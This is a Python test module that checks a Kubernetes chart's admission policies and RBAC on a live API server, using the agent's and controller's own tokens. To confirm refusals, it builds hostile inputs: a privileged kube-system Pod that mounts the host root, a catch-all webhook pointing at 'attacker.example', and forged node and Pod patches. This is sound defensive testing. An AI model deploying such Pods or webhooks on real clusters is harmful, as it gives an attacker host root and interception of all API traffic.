"""The chart's ValidatingAdmissionPolicies on a real kube-apiserver (v1.37, the version this project
builds), tried with each component's own credentials (docs/install.md "What the admission policies do not cover" and "How removal, upgrades and the namespace are decided").

* The agent's token is a Pod-bound one, as the kubelet mounts it: ``kubectl create token
  --bound-object-kind Pod`` for a Pod bound to ``node-a10g``. The API server puts the node claim
  ``authentication.kubernetes.io/node-name`` into the token's userInfo.extra; the test reads it back
  (SelfSubjectReview) before relying on it, then tries the agent's normal writes (allowed) and other
  nodes' objects, fields it does not own and a token without the claim (refused, with the policy's
  exact message). The real agent (``accelpolicy agent --once``) then does its whole job with that token.
* The controller's token creates Pods no Instance owns, Pods with another ServiceAccount or host
  namespaces, webhook configurations under other names or pointing elsewhere, and writes another
  product's configuration: each refused (by the policy, or by RBAC where the chart grants nothing).
* The webhook registrar with an owner: its configurations carry the ownerReference, and once the owner
  ClusterRole is deleted the garbage collector removes them and the registrar does not put them back.
"""
from __future__ import annotations

import base64
import copy
import json
import subprocess
import time
from pathlib import Path

import pytest
import yaml

from runtime.controller.registrar import WebhookRegistrar
from runtime.engine.admission.registration import ClientConfig
from runtime.engine.policy import Policy
from runtime.kube.session import connect
from runtime.rules.loader import load_rules
from tests.controlplane.test_chart_live import ACCELPOLICY, RBAC_KINDS, REPO, _refusals
from tests.controlplane.test_controller import _apply_seed_cluster, _clean
from tests.deploy.test_chart import render
from testing.localcluster import Kubectl, LocalCluster
from testing.localcluster.cluster import CONTROLLER_MANAGER_CONTROLLERS
from testing.localcluster.testing import wait_for, with_crds
from testing.rawapi import JSON_PATCH, Answer, RawClient

NS = "gpustack-system"
AGENT_SA, CONTROLLER_SA = "gpustack-device-manager", "gpustack-controller"
NODE, OTHER = "node-a10g", "node-t4-a"
AGENT_POD = "agent-probe-a10g"
DENIED = "ValidatingAdmissionPolicy 'accelpolicy-agent-node' with binding 'accelpolicy-agent-node' denied request: "
CDENIED = ("ValidatingAdmissionPolicy 'accelpolicy-controller-scope' with binding 'accelpolicy-controller-scope' "
           "denied request: ")
POLICY_KINDS = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
GDENIED = ("ValidatingAdmissionPolicy 'accelpolicy-instance-pod-grants' with binding 'accelpolicy-instance-pod-grants' "
           "denied request: ")


def _kubeconfig(cluster, token: str, path: Path) -> Kubectl:
    """A kubectl whose only credential is ``token`` (the CA embedded)."""
    admin = yaml.safe_load(Path(cluster.kubeconfig).read_text())
    c = admin["clusters"][0]
    path.write_text(json.dumps({
        "apiVersion": "v1", "kind": "Config",
        "clusters": [{"name": "local", "cluster": {
            "server": c["cluster"]["server"],
            "certificate-authority-data": base64.b64encode(Path(c["cluster"]["certificate-authority"]).read_bytes())
            .decode()}}],
        "users": [{"name": "sa", "user": {"token": token}}],
        "contexts": [{"name": "sa", "context": {"cluster": "local", "user": "sa"}}], "current-context": "sa"}))
    return Kubectl(path)


@pytest.fixture(scope="module")
def policies(control_plane, tmp_path_factory):
    """The seed cluster, the chart's RBAC and its two admission policies, an agent Pod bound to node-a10g."""
    cluster, kubectl = control_plane
    _clean(kubectl)
    _apply_seed_cluster(kubectl)
    docs = [d for d in render() if d["kind"] in RBAC_KINDS + POLICY_KINDS]
    manifest = tmp_path_factory.mktemp("policies") / "chart.yaml"
    manifest.write_text(yaml.safe_dump_all(docs))
    kubectl("apply", "-f", str(manifest))
    kubectl("-n", NS, "delete", "pod", AGENT_POD, "--ignore-not-found", "--wait=true")
    kubectl("apply", "-f", "-", input=json.dumps({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": AGENT_POD, "namespace": NS},
        "spec": {"nodeName": NODE, "serviceAccountName": AGENT_SA,
                 "containers": [{"name": "agent", "image": "accelpolicy:probe"}]}}))
    yield cluster, kubectl
    kubectl("delete", "-f", str(manifest), "--ignore-not-found")
    # no kubelet runs here to finish a graceful delete: the Pods this module made go at once, so that the
    # next module's Pod counts start from none (test_agent_metrics_live counts the cached Pods)
    kubectl("-n", NS, "delete", "pod", AGENT_POD, "--ignore-not-found", "--grace-period=0", "--force")
    kubectl("-n", "default", "delete", "pod", "on-a10g", "on-t4-a", "--ignore-not-found", "--grace-period=0",
            "--force")
    _clean(kubectl)


@pytest.fixture(scope="module")
def agent_token(policies) -> str:
    """A token bound to the agent Pod on node-a10g, as the kubelet mounts it."""
    _, kubectl = policies
    return kubectl.stdout("create", "token", AGENT_SA, "-n", NS, "--duration", "1h",
                          "--bound-object-kind", "Pod", "--bound-object-name", AGENT_POD).strip()


@pytest.fixture(scope="module")
def agent(policies, agent_token) -> RawClient:
    return RawClient.for_token(policies[0].kubeconfig, agent_token)


@pytest.fixture(scope="module")
def agent_kubectl(policies, agent_token, tmp_path_factory) -> Kubectl:
    return _kubeconfig(policies[0], agent_token, tmp_path_factory.mktemp("agent") / "kubeconfig")


@pytest.fixture(scope="module")
def controller(policies) -> RawClient:
    cluster, kubectl = policies
    return RawClient.for_token(cluster.kubeconfig,
                               kubectl.stdout("create", "token", CONTROLLER_SA, "-n", NS, "--duration", "1h").strip())


def _refused(send, message: str, timeout: float = 30.0) -> Answer:
    """Send ``send()`` (a raw request) until it is refused with ``message`` in its Status message (a policy
    takes effect once the API server's informer has it); fails when it keeps being answered otherwise."""
    deadline = time.monotonic() + timeout
    while True:
        answer = send()
        if not answer.allowed and message in answer.message:
            return answer
        assert time.monotonic() < deadline, f"not refused with {message!r}: {answer.status} {answer.message}"
        time.sleep(0.5)


def _allowed_eventually(send, timeout: float = 30.0) -> Answer:
    """``send()`` until allowed: the API server's params informer may not hold a new Instance yet."""
    deadline = time.monotonic() + timeout
    while not (answer := send()).allowed and time.monotonic() < deadline:
        time.sleep(0.5)
    return answer


def _denied(answer: Answer, message: str) -> None:
    assert answer.status == 403 and message in answer.message, f"{answer.status} {answer.message}"


def test_a_pod_bound_token_carries_the_node_claim(agent_kubectl):
    """What the policy is keyed on: the API server's own reading of the token (SelfSubjectReview)."""
    review = json.loads(agent_kubectl.stdout("auth", "whoami", "-o", "json"))
    info = review["status"]["userInfo"]
    assert info["username"] == f"system:serviceaccount:{NS}:{AGENT_SA}"
    assert info["extra"]["authentication.kubernetes.io/node-name"] == [NODE]
    assert info["extra"]["authentication.kubernetes.io/pod-name"] == [AGENT_POD]


@pytest.fixture(scope="module")
def managed_cluster():
    """A control plane of its own with kube-controller-manager running the garbage collector and the
    ValidatingAdmissionPolicy status controller (the session's runs no controller-manager), every CRD
    Established."""
    cluster, kubectl = with_crds(LocalCluster(
        controller_manager=True,
        controllers=CONTROLLER_MANAGER_CONTROLLERS + ("validatingadmissionpolicy-status-controller",)).start())
    try:
        yield cluster, kubectl
    finally:
        cluster.stop()


def test_the_policies_type_check_clean(managed_cluster, tmp_path):
    """kube-controller-manager type-checks each of the chart's policies against the schemas of the kinds
    it matches (ours from their CRDs) and writes ``status.typeChecking``: no expression warnings. A copy
    of each (``<name>-probe``, no binding) whose first validation reads a field no matched kind has
    must get a warning: the checker did read the chart's matchConstraints (it skips versions ``*``)."""
    _, kubectl = managed_cluster
    policies = [d for d in render() if d["kind"] == "ValidatingAdmissionPolicy"]
    assert {"accelpolicy-agent-node", "accelpolicy-controller-scope"} <= {d["metadata"]["name"] for d in policies}
    probes = copy.deepcopy(policies)
    for probe in probes:
        probe["metadata"]["name"] += "-probe"
        probe["spec"]["validations"][0]["expression"] = "object.metadata.noSuchField == 'x'"
    manifest = tmp_path / "policies.yaml"
    manifest.write_text(yaml.safe_dump_all(policies + probes))
    kubectl("apply", "-f", str(manifest))
    try:
        for policy in policies + probes:
            name = policy["metadata"]["name"]
            _, status = wait_for(lambda: json.loads(kubectl.stdout("get", "validatingadmissionpolicy", name, "-o",
                                                                   "json")).get("status") or {},
                                 lambda s: "typeChecking" in s, timeout=60,
                                 what=f"status.typeChecking of ValidatingAdmissionPolicy {name}")
            warnings = status["typeChecking"].get("expressionWarnings") or []
            if policy in probes:
                assert [w["fieldRef"] for w in warnings] == ["spec.validations[0].expression"], (name, status)
                assert "undefined field 'noSuchField'" in warnings[0]["warning"], (name, status)
            else:
                assert warnings == [], (name, status)
    finally:
        kubectl("delete", "-f", str(manifest), "--ignore-not-found")


def _node(name: str, status: bool = False) -> str:
    return f"/api/v1/nodes/{name}" + ("/status" if status else "")


def test_the_agent_writes_its_own_nodes_objects_only(agent, policies):
    _, admin = policies
    message = (DENIED + f"the accelpolicy agent of node {NODE} writes only its own node's objects; "
               f"Node {OTHER} belongs to node {OTHER}")
    _refused(lambda: agent.patch(_node(OTHER), {"metadata": {"labels": {"evil": "1"}}}), message)
    _denied(agent.patch(_node(OTHER, status=True), {"status": {"capacity": {"nvidia.com/gpu.sliced.units": "999"}}}),
            message)
    # Devices and NodeFeatures of another node
    devices = {"apiVersion": "worker.gpustack.ai/v1", "kind": "Devices", "metadata": {"name": OTHER},
               "spec": {"groups": []}}
    _denied(agent.create("/apis/worker.gpustack.ai/v1/devices", devices, dry_run=True),
            DENIED + f"the accelpolicy agent of node {NODE} writes only its own node's objects; "
                     f"Devices {OTHER} belongs to node {OTHER}")
    nodefeatures = f"/apis/nfd.k8s-sigs.io/v1alpha1/namespaces/{NS}/nodefeatures"
    _denied(agent.delete(f"{nodefeatures}/{OTHER}-gpustack-worker", dry_run=True),
            DENIED + f"the accelpolicy agent of node {NODE} writes only its own node's objects; "
                     f"NodeFeature {NS}/{OTHER}-gpustack-worker belongs to node {OTHER}")
    forged = {"apiVersion": "nfd.k8s-sigs.io/v1alpha1", "kind": "NodeFeature",
              "metadata": {"name": f"{NODE}-extra", "namespace": NS,
                           "labels": {"nfd.node.kubernetes.io/node-name": OTHER}}, "spec": {"labels": {"x": "1"}}}
    _denied(agent.create(nodefeatures, forged, dry_run=True), f"NodeFeature {NS}/{NODE}-extra belongs to node {OTHER}")
    forged["metadata"]["labels"]["nfd.node.kubernetes.io/node-name"] = NODE
    _denied(agent.create(nodefeatures, forged, dry_run=True),
            DENIED + f"the accelpolicy agent of node {NODE} writes only the NodeFeatures "
                     f"{NODE}-gpustack-worker, {NODE}-gpustack-device-manager, not {NODE}-extra")
    # the same writes on its own node's objects pass
    mine = {"apiVersion": "worker.gpustack.ai/v1", "kind": "Devices", "metadata": {"name": NODE}, "spec": {"groups": []}}
    admin("delete", "devices.worker.gpustack.ai", NODE, "--ignore-not-found")
    assert agent.create("/apis/worker.gpustack.ai/v1/devices", mine, dry_run=True).allowed


def test_the_agent_reads_its_nodes_maintenance_objects_and_writes_none(agent, policies):
    """docs/concepts/out-of-service.md "Maintenance": the agent lists the AcceleratorMaintenance objects naming its
    node (read only, the chart's RBAC); creating, changing, deleting one, or writing its status, is refused even
    for its own node."""
    _, admin = policies
    path = "/apis/worker.gpustack.ai/v1/acceleratormaintenances"
    obj = {"apiVersion": "worker.gpustack.ai/v1", "kind": "AcceleratorMaintenance", "metadata": {"name": "rbac-probe"},
           "spec": {"node": NODE, "reason": "probe", "owner": "test", "expiry": "2099-01-01T00:00:00Z"}}
    admin("apply", "-f", "-", input=json.dumps(obj))
    try:
        listed = agent.request("GET", f"{path}?fieldSelector=spec.node%3D{NODE}")
        assert listed.allowed, f"{listed.status} {listed.message}"
        assert [o["metadata"]["name"] for o in listed.body["items"]] == ["rbac-probe"]
        forbidden = 'acceleratormaintenances.worker.gpustack.ai'
        for answer in (agent.create(path, {**obj, "metadata": {"name": "by-the-agent"}}, dry_run=True),
                       agent.patch(f"{path}/rbac-probe", {"spec": {"expiry": "2000-01-01T00:00:00Z"}}, dry_run=True),
                       agent.patch(f"{path}/rbac-probe/status", {"status": {"state": "Expired"}}, dry_run=True),
                       agent.delete(f"{path}/rbac-probe", dry_run=True)):
            assert answer.status == 403 and forbidden in answer.message and "forbidden" in answer.message, \
                f"{answer.status} {answer.message}"
    finally:
        admin("delete", "acceleratormaintenances.worker.gpustack.ai", "rbac-probe", "--ignore-not-found")


def test_the_agent_changes_only_the_fields_it_owns(agent, policies):
    _, admin = policies
    assert agent.patch(_node(NODE), {"metadata": {"annotations": {"feature.gpustack.ai/cpu-name": "probe"}}}).allowed
    answer = agent.patch(_node(NODE, status=True), {"status": {"capacity": {"nvidia.com/gpu.sliced.units": "128"},
                                                              "allocatable": {"nvidia.com/gpu.sliced.units": "128"}}})
    assert answer.allowed, answer.message
    own = DENIED + f"the accelpolicy agent of node {NODE} may change on its Node only the annotations " \
                   "feature.gpustack.ai/cpu-name, feature.gpustack.ai/cpu-family and its own extended-resource capacity keys"
    _denied(agent.patch(_node(NODE), {"metadata": {"labels": {"gpustack.ai/managed": "false"}}}),
            own + ", not its labels, spec or other status")
    _denied(agent.patch(_node(NODE), {"spec": {"taints": [{"key": "evil", "effect": "NoSchedule"}]}}),
            own + ", not its labels, spec or other status")
    _denied(agent.patch(_node(NODE), {"metadata": {"annotations": {"evil": "1"}}}), own + ", not the annotation evil")
    _denied(agent.patch(_node(NODE, status=True), {"status": {"capacity": {"cpu": "1000"}}}), own + ", not status cpu")
    _denied(agent.patch(_node(NODE, status=True), {"metadata": {"labels": {"evil": "1"}}}),
            own + ", not its labels, spec or other status")


def test_the_agent_annotates_pods_on_its_node_only_and_never_their_spec(agent, policies):
    _, admin = policies
    for name, node in (("on-a10g", NODE), ("on-t4-a", OTHER)):
        admin("-n", "default", "delete", "pod", name, "--ignore-not-found", "--wait=true")
        admin("apply", "-f", "-", input=json.dumps({
            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "default"},
            "spec": {"nodeName": node, "containers": [{"name": "main", "image": "ubuntu:24.04"}]}}))
    allocation = "device.gpustack.ai/accelerator.allocated"
    pods = "/api/v1/namespaces/default/pods"
    answer = agent.patch(f"{pods}/on-a10g", {"metadata": {"annotations": {allocation: "{}"}}})
    assert answer.allowed, answer.message
    _denied(agent.patch(f"{pods}/on-t4-a", {"metadata": {"annotations": {allocation: "{}"}}}),
            DENIED + f"the accelpolicy agent of node {NODE} writes only its own node's objects; "
                     f"Pod default/on-t4-a belongs to node {OTHER}")
    pod = DENIED + f"the accelpolicy agent of node {NODE} may change on a Pod of its node only the annotation {allocation}; "
    _denied(agent.patch(f"{pods}/on-a10g", [{"op": "replace", "path": "/spec/containers/0/image", "value": "evil:1"}],
                        JSON_PATCH), pod + "Pod default/on-a10g: its spec is not the agent's to change")
    _denied(agent.patch(f"{pods}/on-a10g", {"metadata": {"labels": {"evil": "1"}}}),
            pod + "Pod default/on-a10g: only that annotation may change")


def test_a_token_without_the_node_claim_writes_nothing(policies):
    """A token of the agent's ServiceAccount that no Pod is bound to is refused every write."""
    cluster, kubectl = policies
    token = kubectl.stdout("create", "token", AGENT_SA, "-n", NS, "--duration", "10m").strip()
    unbound = RawClient.for_token(cluster.kubeconfig, token)
    _denied(unbound.patch(_node(NODE), {"metadata": {"annotations": {"feature.gpustack.ai/cpu-name": "x"}}}),
            DENIED + "the accelpolicy agent writes only with the token of its Pod, which carries the node claim "
                     "authentication.kubernetes.io/node-name; this request has none")


def test_the_agent_does_its_whole_job_with_its_pod_token(agent_kubectl, policies):
    """Nothing the agent does today is refused: `accelpolicy agent --once` with the bound token writes its
    NodeFeatures, Node annotations and capacity, Devices and its status."""
    _, admin = policies
    admin("delete", "nodefeatures.nfd.k8s-sigs.io", "-n", NS, f"{NODE}-gpustack-worker",
          f"{NODE}-gpustack-device-manager", "--ignore-not-found")
    admin("delete", "devices.worker.gpustack.ai", NODE, "--ignore-not-found")
    result = subprocess.run([str(ACCELPOLICY), "agent", "--kubeconfig", str(agent_kubectl.kubeconfig), "--once",
                             "--node", NODE, "--backend", "fake", "--facts", str(REPO / "probes/recorded/node-a10g.yaml"),
                             "--allocation-source", "annotation"], capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    assert _refusals(result.stdout + result.stderr) == []
    assert f"created NodeFeature {NODE}-gpustack-worker" in result.stderr
    assert f"created Devices {NODE}" in result.stderr
    assert json.loads(admin.stdout("get", "devices.worker.gpustack.ai", NODE, "-o", "json"))["status"]


def _pod(name: str, namespace: str = "default", **spec) -> dict:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace},
            "spec": {"containers": [{"name": "main", "image": "ubuntu:24.04"}], **spec}}


def _pods(namespace: str) -> str:
    return f"/api/v1/namespaces/{namespace}/pods"


def test_the_controller_creates_only_instance_pods(controller, policies, instances):
    attack = _pod("rooted", "kube-system", serviceAccountName="generic-garbage-collector", hostNetwork=True,
                  containers=[{"name": "main", "image": "ubuntu:24.04", "securityContext": {"privileged": True},
                               "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                  volumes=[{"name": "root", "hostPath": {"path": "/"}}])
    _refused(lambda: controller.create(_pods("kube-system"), attack, dry_run=True),
             CDENIED + "the accelpolicy controller creates no Pod in the reserved namespace kube-system "
                       "(Pod kube-system/rooted): Instances run elsewhere")
    _denied(controller.create(_pods("default"), _pod("orphan"), dry_run=True),
            CDENIED + "the accelpolicy controller creates only the Pods of Instances: Pod default/orphan is not "
                      "controlled by an Instance of its name (an ownerReference worker.gpustack.ai/v1 Instance with "
                      "controller: true, its uid in label app.kubernetes.io/part-of, label kueue.x-k8s.io/queue-name)")
    shaped = _instance_pod(instances["plain"])
    answer = _allowed_eventually(lambda: controller.create(_pods("default"), shaped, dry_run=True))
    assert answer.allowed, answer.message   # an Instance's Pod as the renderer makes it (hostIPC: rules' podSpec)
    token = json.loads(json.dumps(shaped))
    token["spec"].update(serviceAccountName="gpustack-controller", automountServiceAccountToken=True)
    _denied(controller.create(_pods("default"), token, dry_run=True),
            CDENIED + "the accelpolicy controller creates Instance Pods as ServiceAccount default without a token "
                      "(rules/instances/pod.yaml podSpec): Pod default/plain asks for ServiceAccount gpustack-controller, "
                      "automountServiceAccountToken true")
    host = json.loads(json.dumps(shaped))
    host["spec"]["hostNetwork"] = True
    _denied(controller.create(_pods("default"), host, dry_run=True),
            CDENIED + "the accelpolicy controller creates Instance Pods with the host namespaces of "
                      "rules/instances/pod.yaml podSpec only: Pod default/plain asks for hostNetwork")


def _instance(name: str, **spec) -> dict:
    return {"apiVersion": "worker.gpustack.ai/v1", "kind": "Instance", "metadata": {"name": name, "namespace": "default"},
            "spec": {"type": "gpustack--generic-linux-amd64", "image": "ubuntu:24.04",
                     "volume": {"ephemeral": {"capacity": "1Gi"}}, **spec}}


def _instance_pod(instance: dict, **spec) -> dict:
    meta = instance["metadata"]
    pod = _pod(meta["name"], automountServiceAccountToken=False, hostIPC=True, **spec)
    pod["metadata"].update(
        ownerReferences=[{"apiVersion": "worker.gpustack.ai/v1", "kind": "Instance", "name": meta["name"],
                          "uid": meta["uid"], "controller": True}],
        labels={"app.kubernetes.io/part-of": meta["uid"], "kueue.x-k8s.io/queue-name": "q"})
    return pod


CACHE = {"mountPath": "/mnt/cache", "hostPath": {"path": "/var/lib/cache", "type": "DirectoryOrCreate"}}


@pytest.fixture(scope="module")
def instances(policies) -> dict[str, dict]:
    """Instances ``plain`` (no grant) and ``granted`` (privileged, a hostPath) in ``default``, as stored."""
    _, admin = policies
    created = {}
    for doc in (_instance("plain"), _instance("granted", privileged=True, additionalVolumes=[CACHE])):
        admin("-n", "default", "delete", "instance", doc["metadata"]["name"], "--ignore-not-found", "--wait=true")
        created[doc["metadata"]["name"]] = json.loads(admin.stdout("create", "-o", "json", "-f", "-",
                                                                   input=json.dumps(doc)))
    yield created
    for name in created:
        admin("-n", "default", "delete", "instance", name, "--ignore-not-found")


def test_host_access_only_as_the_owning_instance_grants_it(controller, policies, instances):
    """accelpolicy-instance-pod-grants reads the Instances of the Pod's namespace as its params: a Pod of an
    Instance without the grant may not be privileged or mount a hostPath; with the grant it may; a
    namespace without Instances holds no grant at all."""
    _, admin = policies
    cache, created = CACHE, instances   # as stored: their uids
    privileged = {"containers": [{"name": "main", "image": "ubuntu:24.04", "securityContext": {"privileged": True}}]}
    _refused(lambda: controller.create(_pods("default"), _instance_pod(created["plain"], **privileged), dry_run=True),
             GDENIED + "Pod default/plain: Instance plain holds no privileged grant (spec.privileged), so its Pod "
                       "may not run a privileged container")
    root = {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}
    _denied(controller.create(_pods("default"), _instance_pod(created["plain"], **root), dry_run=True),
            GDENIED + "Pod default/plain: Instance plain holds no hostPath grant for / (spec.additionalVolumes), so "
                      "its Pod may not mount it")
    granted = _instance_pod(created["granted"], **privileged,
                            volumes=[{"name": "additional-0", "hostPath": cache["hostPath"]}])
    answer = controller.create(_pods("default"), granted, dry_run=True)
    assert answer.allowed, answer.message
    other = _instance_pod(created["granted"], volumes=[{"name": "root", "hostPath": {"path": "/"}}])
    _denied(controller.create(_pods("default"), other, dry_run=True),
            GDENIED + "Pod default/granted: Instance granted holds no hostPath grant for / (spec.additionalVolumes), "
                      "so its Pod may not mount it")
    # what the policy cannot see (docs/install.md): an owner that does not exist. In a namespace without
    # Instances the Pod passes; the garbage collector deletes it once it finds the owner missing
    admin("create", "namespace", "no-instances", check=False)
    lonely = _instance_pod(created["plain"], **privileged)
    lonely["metadata"]["namespace"] = "no-instances"
    assert controller.create(_pods("no-instances"), lonely, dry_run=True).allowed
    # and nobody else's Pods are judged: the admin's labelled privileged Pod in that namespace is admitted
    mine = _pod("labelled", "no-instances", containers=privileged["containers"])
    mine["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "q", "app.kubernetes.io/part-of": "x"}
    assert admin("create", "--dry-run=server", "-f", "-", input=json.dumps(mine), check=False).returncode == 0


def _webhook_configuration(name: str, **client) -> dict:
    return {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": name},
            "webhooks": [{"name": "catch.all.example", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                          "failurePolicy": "Fail",
                          "clientConfig": client or {"url": "https://attacker.example/validate"},
                          "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"],
                                     "resources": ["*"], "scope": "*"}]}]}


def test_the_controller_writes_only_its_own_webhook_configurations(controller, policies):
    _, admin = policies
    admin("apply", "-f", "-", input=json.dumps(_webhook_configuration(
        "other-product", service={"namespace": "kueue-system", "name": "kueue-webhook-service", "path": "/v"})))
    configurations = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    try:
        _refused(lambda: controller.create(configurations, _webhook_configuration("accelpolicy-catch-all"), dry_run=True),
                 CDENIED + "the accelpolicy controller writes only the webhook configurations gpustack-worker-mutation, "
                           "gpustack-worker-validation (rules/admission/registration.yaml), not accelpolicy-catch-all")
        _denied(controller.create(configurations, _webhook_configuration("gpustack-worker-validation"), dry_run=True),
                CDENIED + "every webhook the accelpolicy controller registers calls its Service "
                          "gpustack-system/gpustack-operator-worker; gpustack-worker-validation names another endpoint")
        user = f"system:serviceaccount:{NS}:{CONTROLLER_SA}"
        for verb, answer in (
                ("patch", controller.patch(f"{configurations}/other-product",
                                           [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}],
                                           JSON_PATCH, dry_run=True)),
                ("delete", controller.delete(f"{configurations}/other-product", dry_run=True))):
            _denied(answer, f'validatingwebhookconfigurations.admissionregistration.k8s.io "other-product" is forbidden: '
                            f'User "{user}" cannot {verb} resource "validatingwebhookconfigurations" in API group '
                            '"admissionregistration.k8s.io" at the cluster scope')
    finally:
        admin("delete", "validatingwebhookconfiguration", "other-product", "--ignore-not-found")


def test_configurations_owned_by_a_clusterrole_go_with_it(managed_cluster):
    """The uninstall mechanism (docs/install.md): the registrar's configurations carry an ownerReference
    to the chart's ClusterRole; deleting that ClusterRole (what `helm uninstall` does, hooks or not) has the
    garbage collector delete them, and the registrar, watching the owner, does not register them again."""
    _owner_goes(*managed_cluster)


def _owner_goes(cluster, kubectl) -> None:
    owner = "accelpolicy-owner-probe"
    kubectl("apply", "-f", "-", input=json.dumps({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                                                  "metadata": {"name": owner}, "rules": []}))
    session = connect(cluster.kubeconfig)
    ca = b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
    client = ClientConfig(ca_pem=ca, service=(NS, "gpustack-operator-worker", 443))
    names = ("mutatingwebhookconfiguration/gpustack-worker-mutation",
             "validatingwebhookconfiguration/gpustack-worker-validation")
    registrar = WebhookRegistrar(session, Policy(load_rules()), client, owner=owner, resync_seconds=1.0).start()
    try:
        uid = json.loads(kubectl.stdout("get", "clusterrole", owner, "-o", "json"))["metadata"]["uid"]
        for name in names:
            refs = json.loads(kubectl.stdout("get", name, "-o", "json"))["metadata"]["ownerReferences"]
            assert refs == [{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "name": owner,
                             "uid": uid}]
        t0 = time.monotonic()
        kubectl("delete", "clusterrole", owner)
        while any(kubectl("get", name, check=False).returncode == 0 for name in names):
            assert time.monotonic() - t0 < 60, "the garbage collector left the configurations"
            time.sleep(0.2)
        gone = time.monotonic() - t0
        time.sleep(3)   # three registrar resyncs
        assert all(kubectl("get", name, check=False).returncode != 0 for name in names)
        print(f"\nowner deleted -> configurations collected in {gone:.1f}s; not registered again")
    finally:
        registrar.stop()
        for name in names:
            kubectl("delete", name, "--ignore-not-found")
        kubectl("delete", "clusterrole", owner, "--ignore-not-found")


def test_a_namespace_that_refuses_the_agent_refuses_the_install(control_plane):
    """The chart reads the release namespace's Pod Security level (lookup: a real install or a
    server-side dry run) and refuses one that would refuse the agent DaemonSet."""
    from tests.deploy.test_chart import CHART, helm

    cluster, kubectl = control_plane
    kubectl("create", "namespace", NS, check=False)
    kubectl("label", "--overwrite", "namespace", NS, "pod-security.kubernetes.io/enforce=baseline")
    try:
        out = helm("install", "accelpolicy-psa", str(CHART), "--kubeconfig", str(cluster.kubeconfig), "-n", NS,
                   "--dry-run=server", check=False)
        assert out.returncode != 0
        assert ('namespace gpustack-system enforces Pod Security level "baseline": the agent DaemonSet needs '
                '"privileged" (a hostPath volume for the kubelet\'s PodResources socket, uid 0); run: kubectl label '
                '--overwrite namespace gpustack-system pod-security.kubernetes.io/enforce=privileged') in out.stderr, \
            out.stderr
    finally:
        kubectl("label", "namespace", NS, "pod-security.kubernetes.io/enforce-")
